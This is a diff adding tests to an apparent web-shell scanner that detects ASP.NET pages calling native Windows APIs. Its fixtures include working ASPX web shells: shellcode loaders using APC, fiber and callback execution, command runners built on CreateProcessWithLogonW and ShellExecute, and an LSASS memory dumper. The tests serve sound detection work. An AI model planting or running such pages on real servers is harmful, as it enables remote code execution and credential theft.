@@ -119,6 +119,109 @@ def test_disk_space_by_p_invoke_and_a_method_named_like_the_api_are_not_reported
     assert all(c.rule_id != "EXH-WS-CODE-NATIVE-CODE" for c in report.capabilities)
 
 
+# Other published ways a native page runs or steals: memory and threads through the native API
+# (NtAllocateVirtualMemory and an APC queued to the page's own thread), an executable heap run by
+# a fiber or by a callback the system calls with the given pointer (EnumSystemLocales), a command
+# under another account's password (CreateProcessWithLogonW), ShellExecute, and a dump of LSASS
+# (MiniDumpWriteDump).
+NATIVE_VARIANTS = {
+    "apc.aspx": """[DllImport("ntdll.dll")] static extern uint NtAllocateVirtualMemory(IntPtr h, ref IntPtr b, IntPtr z, ref IntPtr size, uint t, uint p);
+[DllImport("ntdll.dll")] static extern uint NtQueueApcThread(IntPtr th, IntPtr fn, IntPtr a1, IntPtr a2, IntPtr a3);
+[DllImport("ntdll.dll")] static extern uint NtTestAlert();
+[DllImport("kernel32.dll")] static extern IntPtr GetCurrentThread();
+void Page_Load(object sender, EventArgs e) {
+    byte[] sc = Convert.FromBase64String(Request.Form["s"]);
+    IntPtr b = IntPtr.Zero; IntPtr size = (IntPtr)sc.Length;
+    NtAllocateVirtualMemory((IntPtr)(-1), ref b, IntPtr.Zero, ref size, 0x3000, 0x40);
+    Marshal.Copy(sc, 0, b, sc.Length);
+    NtQueueApcThread(GetCurrentThread(), b, IntPtr.Zero, IntPtr.Zero, IntPtr.Zero);
+    NtTestAlert();
+}""",
+    "fiber.aspx": """[DllImport("kernel32.dll")] static extern IntPtr HeapCreate(uint o, UIntPtr i, UIntPtr m);
+[DllImport("kernel32.dll")] static extern IntPtr HeapAlloc(IntPtr h, uint f, UIntPtr s);
+[DllImport("kernel32.dll")] static extern IntPtr ConvertThreadToFiber(IntPtr p);
+[DllImport("kernel32.dll")] static extern IntPtr CreateFiber(uint s, IntPtr a, IntPtr p);
+[DllImport("kernel32.dll")] static extern void SwitchToFiber(IntPtr f);
+void Page_Load(object sender, EventArgs e) {
+    byte[] sc = Convert.FromBase64String(Request.Form["s"]);
+    IntPtr m = HeapAlloc(HeapCreate(0x40000, UIntPtr.Zero, UIntPtr.Zero), 0, (UIntPtr)sc.Length);
+    Marshal.Copy(sc, 0, m, sc.Length);
+    ConvertThreadToFiber(IntPtr.Zero);
+    SwitchToFiber(CreateFiber(0, m, IntPtr.Zero));
+}""",
+    "callback.aspx": """[DllImport("kernel32.dll")] static extern IntPtr VirtualAllocExNuma(IntPtr p, IntPtr a, uint s, uint t, uint pr, uint n);
+[DllImport("kernel32.dll")] static extern bool EnumSystemLocalesA(IntPtr cb, uint flags);
+void Page_Load(object sender, EventArgs e) {
+    byte[] sc = Convert.FromBase64String(Request.Form["s"]);
+    IntPtr m = VirtualAllocExNuma(System.Diagnostics.Process.GetCurrentProcess().Handle, IntPtr.Zero, (uint)sc.Length, 0x3000, 0x40, 0);
+    Marshal.Copy(sc, 0, m, sc.Length);
+    EnumSystemLocalesA(m, 0);
+}""",
+    "runas.aspx": """[StructLayout(LayoutKind.Sequential)] struct SI { public int cb; public IntPtr a, b, c; }
+[StructLayout(LayoutKind.Sequential)] struct PI { public IntPtr hp, ht; public int pid, tid; }
+[DllImport("advapi32.dll", CharSet = CharSet.Unicode)]
+static extern bool CreateProcessWithLogonW(string user, string domain, string pass, int flags, string app, string cmd, int cf, IntPtr env, string dir, ref SI si, out PI pi);
+void Page_Load(object sender, EventArgs e) {
+    SI si = new SI(); si.cb = Marshal.SizeOf(si); PI pi;
+    CreateProcessWithLogonW(Request.Form["u"], ".", Request.Form["p"], 1, null, "cmd.exe /c " + Request.Form["c"], 0, IntPtr.Zero, null, ref si, out pi);
+}""",
+    "shellexecute.aspx": """[DllImport("shell32.dll", CharSet = CharSet.Auto)]
+static extern IntPtr ShellExecute(IntPtr hwnd, string op, string file, string args, string dir, int show);
+void Page_Load(object sender, EventArgs e) {
+    ShellExecute(IntPtr.Zero, "open", "cmd.exe", "/c " + Request["c"], null, 0);
+}""",
+    "dump.aspx": """[DllImport("dbghelp.dll")]
+static extern bool MiniDumpWriteDump(IntPtr h, uint pid, SafeHandle file, uint type, IntPtr e, IntPtr u, IntPtr c);
+void Page_Load(object sender, EventArgs e) {
+    var p = System.Diagnostics.Process.GetProcessesByName("lsass")[0];
+    using (var fs = new System.IO.FileStream(@"C:\\Windows\\Temp\\d.bin", System.IO.FileMode.Create)) {
+        MiniDumpWriteDump(p.Handle, (uint)p.Id, fs.SafeFileHandle, 2, IntPtr.Zero, IntPtr.Zero, IntPtr.Zero);
+    }
+}""",
+}
+
+
+def native_page(body: str) -> str:
+    return (
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Runtime.InteropServices" %>\n'
+        f'<script runat="server">\n{body}\n</script>\n'
+    )
+
+
+def test_native_api_fibers_callbacks_logon_shell_execute_and_dumps_are_native_code() -> None:
+    for name, body in NATIVE_VARIANTS.items():
+        report = run(name, native_page(body))
+        assert "EXH-WS-CODE-NATIVE-CODE" in medium_or_above(report), name
+    chain = chain_of(run("runas.aspx", native_page(NATIVE_VARIANTS["runas.aspx"])), "EXH-WS-CODE-NATIVE-CODE")
+    assert "form field 'u'" in chain
+    assert "declares CreateProcessWithLogonW by P/Invoke" in chain
+
+
+def test_own_methods_named_like_those_functions_and_a_diagnostics_library_are_not_reported() -> None:
+    page = native_page("""void ShellExecute(string verb, string file) { Application["last"] = verb + file; }
+IntPtr HeapCreate(int size) { return IntPtr.Zero; }
+void Page_Load(object s, EventArgs e) {
+    ShellExecute("open", Request.QueryString["doc"]);
+    HeapCreate(16);
+}""")
+    library = """using System;
+using System.Runtime.InteropServices;
+namespace Diagnostics {
+    public static class Dumper {
+        [DllImport("dbghelp.dll")]
+        static extern bool MiniDumpWriteDump(IntPtr h, uint pid, SafeHandle file, uint type, IntPtr e, IntPtr u, IntPtr c);
+        public static void DumpSelf(string path) {
+            var p = System.Diagnostics.Process.GetCurrentProcess();
+            using (var fs = System.IO.File.Create(path)) { MiniDumpWriteDump(p.Handle, (uint)p.Id, fs.SafeFileHandle, 2, IntPtr.Zero, IntPtr.Zero, IntPtr.Zero); }
+        }
+    }
+}"""
+    for name, code in (("docs.aspx", page), ("Dumper.cs", library)):
+        report = run(name, code)
+        assert all(c.rule_id != "EXH-WS-CODE-NATIVE-CODE" for c in report.capabilities), name
+    assert medium_or_above(run("docs.aspx", page)) == []
+
+
 # Dynamic invocation (the "D/Invoke" technique published for .NET tradecraft): the Windows
 # function is not declared by a DllImport attribute the source shows, but built at run time,
 # by emitting a P/Invoke stub into a dynamic assembly (`ModuleBuilder.DefinePInvokeMethod`) or by
